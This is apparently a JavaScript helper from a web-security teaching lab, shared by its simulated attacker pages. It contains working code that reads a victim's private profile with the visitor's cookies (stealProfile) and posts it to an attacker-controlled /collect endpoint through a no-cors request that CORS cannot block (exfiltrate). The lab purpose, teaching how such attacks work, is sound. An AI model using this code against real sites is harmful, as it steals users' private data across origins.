// What every attacker page of the lab shares. A real attacker's page would do the same things; the lab's
// pages also say on screen what they got ("backstage"), and tell the lab runner when they are done.
'use strict';

const lab = {
  victim: window.LAB.victimOrigin,
  attacker: window.LAB.attackerOrigin,
  /** The lab case this page runs for (?case= in its address): the runner counts only loot that names it. */
  caseNonce: new URLSearchParams(location.search).get('case'),

  /** Shows what the attacker's code got, in the page's backstage box. */
  show(text) {
    document.getElementById('lab-evidence').textContent = text;
  },

  /**
   * Reports the page's result to the runner: read | anonymous | failed | public | sent, or nothing (the page
   * got nothing and the browser owes it no explanation: a message that never came).
   */
  finish(result, text) {
    if (text !== undefined) lab.show(text);
    document.body.dataset.labResult = result;
  },

  /**
   * Reads a victim URL as JSON. Returns {ok, status, body} or {error} when the browser refused to hand the
   * answer over (CORS: the script only sees a TypeError; the reason is in the console).
   */
  async readJson(url, init) {
    let response;
    try {
      response = await fetch(url, init);
    } catch (error) {
      return { error: String(error) };
    }
    const body = await response.json().catch(() => null);
    return { ok: response.ok, status: response.status, body };
  },

  /**
   * Sends what was stolen to the attacker's backend as a "simple" request (text/plain, no-cors), which no
   * CORS rule can stop from any origin: exfiltration is never the hard part.
   */
  async exfiltrate(scenario, data) {
    await fetch(lab.attacker + '/collect', {
      method: 'POST',
      mode: 'no-cors',
      headers: { 'Content-Type': 'text/plain' },
      body: JSON.stringify({ scenario, data, case: lab.caseNonce })
    }).catch(() => {});
  },

  /**
   * The cookie-theft attack itself: read the visitor's private profile from the victim, with the visitor's
   * cookies, and send it home. Returns the profile, or null (after reporting why) when it could not.
   */
  async stealProfile(scenario) {
    const answer = await lab.readJson(lab.victim + '/api/me', { credentials: 'include' });
    if (answer.error) {
      lab.finish('failed', 'The browser refused to hand over the answer: ' + answer.error);
      return null;
    }
    if (!answer.ok || !answer.body || !answer.body.username) {
      lab.finish('anonymous', 'Read the answer, but it holds nothing private (HTTP ' + answer.status + '): '
          + JSON.stringify(answer.body));
      return null;
    }
    lab.show('Got it! ' + JSON.stringify(answer.body, null, 2));
    await lab.exfiltrate(scenario, answer.body);
    return answer.body;
  },

  /**
   * Opens a new, empty window (call it from a click) and resolves with it once it is ready for a page: at once in
   * a person's browser; when the lab runner plays the visitor, once it has given the window the visitor's browser
   * settings (it says so with a 'lab-window-ready' event), or after a second at most.
   */
  openWindow(features) {
    const opened = window.open('about:blank', '_blank', features);
    return new Promise(resolve => {
      const ready = () => resolve(opened);
      window.addEventListener('lab-window-ready', ready, { once: true });
      setTimeout(ready, document.body.dataset.labAsk ? 1000 : 0);
    });
  },

  /** Waits for the runner playing the victim to answer a question the page asks (phishing). */
  ask(what) {
    document.body.dataset.labAsk = what;
  }
};
